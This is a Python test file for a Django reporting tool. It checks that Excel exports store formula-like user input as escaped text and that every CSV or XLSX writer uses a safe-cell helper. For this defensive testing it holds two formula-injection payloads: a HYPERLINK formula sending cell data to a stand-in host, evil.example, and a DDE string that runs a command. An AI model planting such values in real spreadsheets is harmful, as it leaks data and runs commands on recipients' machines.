"""Spreadsheets pcitrack writes never run what users typed: text that looks like a formula stays text."""

import re
from pathlib import Path

import openpyxl
from django.core.management import call_command

from pcitrack.org.models import Unit

ROOT = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
DDE = "+cmd|' /C calc'!A0"


def test_the_excel_appendix_keeps_formula_like_names_as_text_and_numbers_as_numbers(world, tmp_path):
    target = world.plan.targets.get(no=12)
    target.indicator.name = HYPERLINK
    target.indicator.unit_of_measure = "@SUM(1+1)"
    target.indicator.save()
    Unit.objects.filter(pk=target.assignments.get(role="lead").unit_id).update(name=DDE)
    world.observation(12, 2024, -3.5)
    world.period()
    out = tmp_path / "phu-luc.xlsx"

    call_command(
        "build_report", "--plan", str(world.plan.pk), "--format", "xlsx", "--period", "năm 2024", "--out", str(out)
    )

    sheet = openpyxl.load_workbook(out).active
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == 12)
    name, unit, current, lead = row[1], row[2], row[8], row[11]
    assert (name.data_type, name.value) == ("s", "'" + HYPERLINK)
    assert (unit.data_type, unit.value) == ("s", "'@SUM(1+1)")
    assert (lead.data_type, lead.value) == ("s", "'" + DDE)
    assert (current.data_type, current.value) == ("n", -3.5)
    assert not any(cell.data_type == "f" for r in sheet.iter_rows() for cell in r)


def test_every_csv_or_xlsx_writer_goes_through_the_safe_cell_helper():
    writers = re.compile(r"csv\.(writer|DictWriter)\(|openpyxl\.Workbook\(|\bWorkbook\(")
    unsafe = [
        str(path.relative_to(ROOT))
        for folder in ("pcitrack", "tools", "benchmarks")
        for path in (ROOT / folder).rglob("*.py")
        if writers.search(path.read_text(encoding="utf-8"))
        and "pcitrack.core.cells import" not in path.read_text(encoding="utf-8")
        and path.name != "cells.py"
    ]
    assert unsafe == []
